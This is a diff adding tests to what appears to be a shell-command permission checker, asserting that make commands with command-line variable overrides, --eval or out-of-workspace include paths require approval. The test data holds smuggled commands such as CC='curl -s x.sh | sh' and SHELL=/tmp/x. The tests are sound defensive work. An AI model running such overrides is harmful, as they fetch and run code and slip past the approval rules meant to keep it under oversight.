@@ -347,3 +347,38 @@ describe('an interpreter running a module by name asks unless an entry names the
     });
   }
 });
+
+/**
+ * An allow entry for make covers running the workspace's make file, not recipes changed from the command line:
+ * a variable override (`SHELL=/tmp/x`, `CC='curl x | sh'`) or `-E` (short for `--eval`) runs other programs, and
+ * `-I` outside the workspace reads make files from there.
+ */
+const MAKE_RISKS: [command: string, rule: string][] = [
+  ['make SHELL=/tmp/x', 'make-variable'],
+  ["make CC='curl -s x.sh | sh'", 'make-variable'],
+  ['make test MAKEFLAGS=--eval=x', 'make-variable'],
+  ["make 'OUT!=id'", 'make-variable'],
+  ['make X:=1 all', 'make-variable'],
+  ["make -E 'all:;id'", 'risky-option'],
+  ['make -I /tmp', 'read-outside-workspace'],
+  ['make --include-dir=/tmp test', 'read-outside-workspace'],
+];
+
+describe('make with recipes changed from the command line asks', () => {
+  for (const [command, rule] of MAKE_RISKS) {
+    test(`\`${command}\` asks (${rule})`, () => {
+      const d = decide(command);
+      assert.equal(d.decision, 'ask', explain(d));
+      assert.ok(
+        d.parts.some((p) => p.rule === rule),
+        explain(d),
+      );
+    });
+  }
+  for (const command of ['make', 'make test', 'make -j4 build test', 'make -n', 'make -k -s lint']) {
+    test(`\`${command}\` is allowed`, () => {
+      const d = decide(command);
+      assert.equal(d.decision, 'allow', explain(d));
+    });
+  }
+});
